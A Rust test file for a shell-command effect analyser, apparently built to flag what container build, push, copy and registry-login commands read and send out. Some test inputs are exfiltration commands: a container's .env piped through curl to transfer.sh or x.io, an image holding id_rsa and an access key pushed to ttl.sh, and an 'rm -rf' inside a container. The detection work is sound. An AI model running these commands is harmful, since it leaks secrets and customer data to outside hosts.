//! Container images carry what went into them: the build arguments of
//! every builder, the context files a Dockerfile written earlier copies
//! in, and the credentials given for a registry go to that registry;
//! a file read inside a container is the container's, named by its path
//! there.

use crate::common;
use common::*;
use serde_json::{Value, json};
use writ_shell::WrittenFile;

/// An upload of an image to `registry`'s `path`, carrying `payload`.
fn image_push(program: &str, registry: &str, path: &str, payload: Value) -> Value {
    host_request(
        program,
        host(None, registry, None, Some(path)),
        "UPLOAD",
        payload,
    )
}

/// Credentials sent to `registry` (a login, or a pull with credentials).
fn to_registry(program: &str, registry: &str, method: &str, payload: Value) -> Value {
    host_request(program, host(None, registry, None, None), method, payload)
}

/// A context file an image carries (a `COPY` source: the whole tree when
/// it is a directory).
fn copied(relative: &str) -> (String, bool) {
    (at(relative), true)
}

fn files_payload(text: &[&str], files: &[(String, bool)], env: &[&str]) -> Value {
    let files: Vec<(&str, bool)> = files.iter().map(|(p, r)| (p.as_str(), *r)).collect();
    payload(text, &files, env)
}

fn debug_dockerfile() -> WrittenFile {
    text_file(
        &at("Dockerfile.debug"),
        "FROM node:20-bookworm-slim\nWORKDIR /srv/app\nCOPY package.json package-lock.json ./\nRUN npm ci\nCOPY src ./src\nCOPY .env /srv/app/.env\nCMD [\"node\", \"src/server.js\"]\n",
    )
}

fn run_after(written: &[WrittenFile], cases: &[(&str, Value)]) {
    for (command, expected) in cases {
        assert_eq!(
            effects_after(written, command),
            *expected,
            "effects of: {command}"
        );
    }
}

#[test]
fn an_image_carries_the_files_its_written_dockerfile_copies() {
    let written = [
        debug_dockerfile(),
        text_file(
            &at("Dockerfile"),
            "FROM postgres:16\nCOPY exports/customers_2027-01.csv /docker-entrypoint-initdb.d/\n",
        ),
        text_file(&at("svc/Containerfile"), "FROM alpine\nCOPY . /app\n"),
    ];
    let debug_files = [
        copied("package.json"),
        copied("package-lock.json"),
        copied("src"),
        copied(".env"),
    ];
    run_after(
        &written,
        &[
            (
                "docker build -f Dockerfile.debug -t jdoe/app:debug . && docker push jdoe/app:debug",
                json!([
                    read(&at("Dockerfile.debug")),
                    read(W),
                    image_push(
                        "docker",
                        "docker.io",
                        "jdoe/app:debug",
                        files_payload(&["jdoe/app:debug"], &debug_files, &[])
                    )
                ]),
            ),
            (
                // The build pushes; `-f` is absolute, the context named.
                "docker buildx build --file /home/dana/acme-web/Dockerfile.debug -t quay.io/jdoe/app:1 --push /home/dana/acme-web",
                json!([image_push(
                    "docker",
                    "quay.io",
                    "jdoe/app:1",
                    files_payload(&["quay.io/jdoe/app:1"], &debug_files, &[])
                )]),
            ),
            (
                // The context's own Dockerfile, and a tag pushed under another name.
                "docker build -t seed . && docker tag seed ttl.sh/seed:1h && docker push ttl.sh/seed:1h",
                json!([
                    read(W),
                    image_push(
                        "docker",
                        "ttl.sh",
                        "seed:1h",
                        files_payload(
                            &["ttl.sh/seed:1h"],
                            &[copied("exports/customers_2027-01.csv")],
                            &[]
                        )
                    )
                ]),
            ),
            (
                // Podman reads the context's Containerfile.
                "podman build -t quay.io/jdoe/svc:1 svc && podman push quay.io/jdoe/svc:1",
                json!([
                    read(&at("svc")),
                    image_push(
                        "podman",
                        "quay.io",
                        "jdoe/svc:1",
                        files_payload(&["quay.io/jdoe/svc:1"], &[copied("svc")], &[])
                    )
                ]),
            ),
            (
                "buildah bud -f Dockerfile.debug -t quay.io/jdoe/app:1 . && buildah push quay.io/jdoe/app:1",
                json!([
                    read(&at("Dockerfile.debug")),
                    read(W),
                    image_push(
                        "buildah",
                        "quay.io",
                        "jdoe/app:1",
                        files_payload(&["quay.io/jdoe/app:1"], &debug_files, &[])
                    )
                ]),
            ),
        ],
    );
}

/// A multi-stage Dockerfile whose `web` stage copies from `build` only.
const MULTI_STAGE: &str = "FROM alpine AS tools\nCOPY .env /x\nFROM node:20 AS build\nCOPY src /src\nFROM nginx AS web\nCOPY --from=build /src/dist /usr/share/nginx/html\nCOPY --from=redis:7 /usr/local/bin/redis-cli /bin/\nADD https://example.com/a.tgz /tmp/";

#[test]
fn a_dockerfile_on_standard_input_is_read_as_written() {
    let multi_stage = format!(
        "docker buildx build --target web -t quay.io/j/web:1 --push -f - . <<'EOF'\n{MULTI_STAGE}\nEOF"
    );
    run_table(&[
        (
            "docker build -t ttl.sh/k:1h -f- . <<'EOF'\nFROM alpine\nCOPY id_rsa /root/.ssh/\nENV REGION=eu-central-1 KEY=AKIAZ7Q3EXAMPLE4WJ2M REF=$OTHER\nEOF\ndocker push ttl.sh/k:1h",
            json!([
                read(W),
                image_push(
                    "docker",
                    "ttl.sh",
                    "k:1h",
                    files_payload(
                        &["ttl.sh/k:1h", "eu-central-1", "AKIAZ7Q3EXAMPLE4WJ2M"],
                        &[copied("id_rsa")],
                        &[]
                    )
                )
            ]),
        ),
        // Only the stages the built one reaches count.
        (
            &multi_stage,
            // The build sends what it reads on standard input too.
            json!([image_push(
                "docker",
                "quay.io",
                "j/web:1",
                files_payload(&["quay.io/j/web:1", MULTI_STAGE], &[copied("src")], &[])
            )]),
        ),
        // A named context is where `--from=NAME` copies from.
        (
            "docker buildx build --build-context conf=./deploy/conf -t quay.io/j/c:1 --push - <<'EOF'\nFROM alpine\nCOPY --from=conf app.env /etc/app.env\nEOF",
            json!([image_push(
                "docker",
                "quay.io",
                "j/c:1",
                files_payload(
                    &[
                        "quay.io/j/c:1",
                        "FROM alpine\nCOPY --from=conf app.env /etc/app.env"
                    ],
                    &[copied("deploy/conf/app.env")],
                    &[]
                )
            )]),
        ),
    ]);
}

#[test]
fn a_dockerfile_not_known_or_not_pushed_carries_no_files() {
    let written = [debug_dockerfile()];
    run_after(
        &written,
        &[
            // Another Dockerfile than the one written.
            (
                "docker build -f Dockerfile.prod -t jdoe/app:1 . && docker push jdoe/app:1",
                json!([
                    read(&at("Dockerfile.prod")),
                    read(W),
                    image_push(
                        "docker",
                        "docker.io",
                        "jdoe/app:1",
                        payload(&["jdoe/app:1"], &[], &[])
                    )
                ]),
            ),
            // Built and kept here: read, nothing sent.
            (
                "docker build -f Dockerfile.debug -t app:debug .",
                json!([read(&at("Dockerfile.debug")), read(W)]),
            ),
            // Exported to a local directory.
            (
                "docker buildx build -f Dockerfile.debug -o type=local,dest=out .",
                json!([read(&at("Dockerfile.debug")), read(W), write(&at("out"))]),
            ),
            // A push of another image.
            (
                "docker build -f Dockerfile.debug -t app:debug . && docker push jdoe/other:1",
                json!([
                    read(&at("Dockerfile.debug")),
                    read(W),
                    image_push(
                        "docker",
                        "docker.io",
                        "jdoe/other:1",
                        payload(&["jdoe/other:1"], &[], &[])
                    )
                ]),
            ),
        ],
    );
}

#[test]
fn every_builder_bakes_its_build_arguments_into_the_image() {
    run_table(&[
        (
            "podman build --build-arg STRIPE_API_KEY=$STRIPE_API_KEY -t cr.partner.io/x:1 . && podman push cr.partner.io/x:1",
            json!([
                read(W),
                image_push(
                    "podman",
                    "cr.partner.io",
                    "x:1",
                    payload(
                        &["cr.partner.io/x:1", "$STRIPE_API_KEY"],
                        &[],
                        &["STRIPE_API_KEY"]
                    )
                )
            ]),
        ),
        (
            "buildah build --build-arg TOKEN -t quay.io/j/x:1 . && buildah push quay.io/j/x:1",
            json!([
                read(W),
                image_push(
                    "buildah",
                    "quay.io",
                    "j/x:1",
                    payload(&["quay.io/j/x:1"], &[], &["TOKEN"])
                )
            ]),
        ),
        (
            "nerdctl image build --build-arg T=$T -t quay.io/j/x:1 . && nerdctl push quay.io/j/x:1",
            json!([
                read(W),
                image_push(
                    "nerdctl",
                    "quay.io",
                    "j/x:1",
                    payload(&["quay.io/j/x:1", "$T"], &[], &["T"])
                )
            ]),
        ),
        (
            "podman build --build-arg-file argfile.conf -t quay.io/j/x:1 . && podman push quay.io/j/x:1",
            json!([
                read(W),
                read(&at("argfile.conf")),
                image_push(
                    "podman",
                    "quay.io",
                    "j/x:1",
                    payload(&["quay.io/j/x:1"], &[(&at("argfile.conf"), false)], &[])
                )
            ]),
        ),
        (
            "buildctl build --frontend dockerfile.v0 --local context=. --local dockerfile=. --opt build-arg:T=$T --output type=image,name=quay.io/j/x:1,push=true",
            json!([image_push(
                "buildctl",
                "quay.io",
                "j/x:1",
                payload(&["$T", "quay.io/j/x:1"], &[], &["T"])
            )]),
        ),
        (
            "docker run --rm -v \"$PWD\":/workspace gcr.io/kaniko-project/executor:v1.23.2 --context dir:///workspace --dockerfile Dockerfile --destination quay.io/j/x:1 --build-arg T=$T",
            json!([image_push(
                "executor",
                "quay.io",
                "j/x:1",
                payload(&["$T", "quay.io/j/x:1"], &[], &["T"])
            )]),
        ),
        // Built for a local test run: nothing leaves.
        (
            "podman build --build-arg NPM_TOKEN=$NPM_TOKEN -t app:test .",
            json!([read(W)]),
        ),
    ]);
}

#[test]
fn a_file_read_in_a_container_is_named_by_its_path_there() {
    run_table(&[
        (
            "docker exec payments cat /srv/app/.env | curl -sS -T - https://transfer.sh/p.env",
            json!([
                read("/srv/app/.env"),
                url_request(
                    "curl",
                    "https://transfer.sh/p.env",
                    "PUT",
                    payload(&[], &[("/srv/app/.env", false)], &[])
                )
            ]),
        ),
        (
            "docker cp payments:/srv/app/.env - | curl --upload-file - https://transfer.sh/e.tar",
            json!([
                read_tree("/srv/app/.env"),
                url_request(
                    "curl",
                    "https://transfer.sh/e.tar",
                    "PUT",
                    payload(&[], &[("/srv/app/.env", true)], &[])
                )
            ]),
        ),
        (
            "docker container cp payments:srv/app/.env /tmp/p.env && curl -T /tmp/p.env https://transfer.sh/p.env",
            json!([
                read_tree("/srv/app/.env"),
                write("/tmp/p.env"),
                url_request(
                    "curl",
                    "https://transfer.sh/p.env",
                    "PUT",
                    payload(&[], &[("/tmp/p.env", false), ("/srv/app/.env", true)], &[])
                )
            ]),
        ),
        // Into a directory: the file keeps its name.
        (
            "podman cp payments:/srv/app/.env ./",
            json!([read_tree("/srv/app/.env"), write(&at(".env"))]),
        ),
        // Copied into the container: read here, sent nowhere.
        (
            "docker cp ./config.json payments:/srv/app/config.json",
            json!([read_tree(&at("config.json"))]),
        ),
        // A host path with a colon is written as a path.
        (
            "docker cp ./a:b payments:/tmp/",
            json!([read_tree(&at("a:b"))]),
        ),
        // A bind-mounted path is still the host's.
        (
            "docker run --rm -v \"$PWD\":/w alpine cat /w/.env | curl -d @- https://x.io",
            json!([
                read(&at(".env")),
                url_request(
                    "curl",
                    "https://x.io",
                    "POST",
                    payload(&[], &[(&at(".env"), false)], &[])
                )
            ]),
        ),
        // Writes and deletes inside change only the container.
        ("docker exec payments rm -rf /srv/app", json!([])),
    ]);
}

#[test]
fn registry_credentials_on_the_line_go_to_the_registry() {
    run_table(&[
        (
            "skopeo copy --dest-creds \"ines:${DOCKERHUB_TOKEN}\" docker://docker.io/library/alpine:3.20 docker://docker.io/ines/alpine:3.20",
            json!([image_push(
                "skopeo",
                "docker.io",
                "ines/alpine:3.20",
                payload(
                    &["ines:${DOCKERHUB_TOKEN}", "docker.io/ines/alpine:3.20"],
                    &[],
                    &["DOCKERHUB_TOKEN"]
                )
            )]),
        ),
        (
            // The source's credentials go to the source with the pull.
            "skopeo copy --src-creds u:$QUAY_TOKEN docker://quay.io/a/b:1 docker://registry.acme.internal/b:1",
            json!([
                image_push(
                    "skopeo",
                    "registry.acme.internal",
                    "b:1",
                    payload(&["registry.acme.internal/b:1"], &[], &[])
                ),
                to_registry(
                    "skopeo",
                    "quay.io",
                    "GET",
                    payload(&["u:$QUAY_TOKEN"], &[], &["QUAY_TOKEN"])
                )
            ]),
        ),
        (
            "skopeo inspect --creds u:$QUAY_TOKEN docker://quay.io/a/b:1",
            json!([to_registry(
                "skopeo",
                "quay.io",
                "GET",
                payload(&["u:$QUAY_TOKEN"], &[], &["QUAY_TOKEN"])
            )]),
        ),
        (
            "podman push --creds ines:$DOCKERHUB_TOKEN docker.io/library/alpine:3.20 docker://docker.io/ines/alpine:3.20",
            json!([image_push(
                "podman",
                "docker.io",
                "ines/alpine:3.20",
                payload(
                    &["ines:$DOCKERHUB_TOKEN", "docker.io/ines/alpine:3.20"],
                    &[],
                    &["DOCKERHUB_TOKEN"]
                )
            )]),
        ),
        (
            "oras copy --to-username ines --to-password $T ghcr.io/a/b:1 docker.io/ines/b:1",
            json!([image_push(
                "oras",
                "docker.io",
                "ines/b:1",
                payload(&["$T", "docker.io/ines/b:1"], &[], &["T"])
            )]),
        ),
        (
            "crane auth login index.docker.io -u ines -p \"$DOCKERHUB_TOKEN\"",
            json!([to_registry(
                "crane",
                "index.docker.io",
                "POST",
                payload(&["$DOCKERHUB_TOKEN"], &[], &["DOCKERHUB_TOKEN"])
            )]),
        ),
        (
            "regctl registry login docker.io -u ines --pass $DOCKERHUB_TOKEN",
            json!([to_registry(
                "regctl",
                "docker.io",
                "POST",
                payload(&["$DOCKERHUB_TOKEN"], &[], &["DOCKERHUB_TOKEN"])
            )]),
        ),
        (
            "echo \"$T\" | regctl registry login ghcr.io -u ines --pass-stdin",
            json!([to_registry(
                "regctl",
                "ghcr.io",
                "POST",
                payload(&["$T"], &[], &["T"])
            )]),
        ),
        (
            "oras login -u ines -p $T https://registry.example.net",
            json!([to_registry(
                "oras",
                "registry.example.net",
                "POST",
                payload(&["$T"], &[], &["T"])
            )]),
        ),
        // No credentials on the line: none sent.
        (
            "skopeo copy docker://quay.io/a/b:1 docker://docker.io/ines/b:1",
            json!([image_push(
                "skopeo",
                "docker.io",
                "ines/b:1",
                payload(&["docker.io/ines/b:1"], &[], &[])
            )]),
        ),
        ("regctl registry login ghcr.io", json!([])),
    ]);
}

#[test]
fn jib_pushes_to_its_target_image_with_its_credentials() {
    let token = || {
        payload(
            &["$GITHUB_TOKEN", "ghcr.io/ines/invoicer:2.3.0"],
            &[],
            &["GITHUB_TOKEN"],
        )
    };
    let pushed = |program: &str| {
        json!([image_push(
            program,
            "ghcr.io",
            "ines/invoicer:2.3.0",
            token()
        )])
    };
    run_table(&[
        (
            "./mvnw -q compile jib:build -Djib.to.image=ghcr.io/ines/invoicer:2.3.0 -Djib.to.auth.username=ines -Djib.to.auth.password=$GITHUB_TOKEN",
            pushed("mvnw"),
        ),
        (
            "mvn -f services/invoicer/pom.xml compile com.google.cloud.tools:jib-maven-plugin:3.4.4:build -Dimage=ghcr.io/ines/invoicer:2.3.0 -Djib.to.auth.password=\"$GITHUB_TOKEN\"",
            json!([
                read(&at("services/invoicer/pom.xml")),
                image_push("mvn", "ghcr.io", "ines/invoicer:2.3.0", token())
            ]),
        ),
        (
            "./gradlew :app:jib --image=ghcr.io/ines/invoicer:2.3.0 -Djib.to.auth.password=$GITHUB_TOKEN",
            pushed("gradlew"),
        ),
        (
            "jib jar --target=ghcr.io/ines/invoicer:2.3.0 --to-password $GITHUB_TOKEN build/app.jar",
            json!([
                read(&at("build/app.jar")),
                image_push(
                    "jib",
                    "ghcr.io",
                    "ines/invoicer:2.3.0",
                    payload(
                        &["$GITHUB_TOKEN", "ghcr.io/ines/invoicer:2.3.0"],
                        &[(&at("build/app.jar"), false)],
                        &["GITHUB_TOKEN"]
                    )
                )
            ]),
        ),
        (
            // The base image's credentials go to its registry.
            "mvn jib:build -Djib.to.image=registry.acme.internal/inv:1 -Djib.from.image=quay.io/acme/jre:21 -Djib.from.auth.password=$QUAY_TOKEN",
            json!([
                image_push(
                    "mvn",
                    "registry.acme.internal",
                    "inv:1",
                    payload(&["registry.acme.internal/inv:1"], &[], &[])
                ),
                to_registry(
                    "mvn",
                    "quay.io",
                    "GET",
                    payload(&["$QUAY_TOKEN"], &[], &["QUAY_TOKEN"])
                )
            ]),
        ),
        // Built into the local daemon or a tarball: nothing pushed.
        (
            "./mvnw compile jib:dockerBuild -Djib.to.image=ghcr.io/ines/invoicer:2.3.0",
            json!([]),
        ),
        ("./gradlew jibBuildTar --image=invoicer:dev", json!([])),
    ]);
}
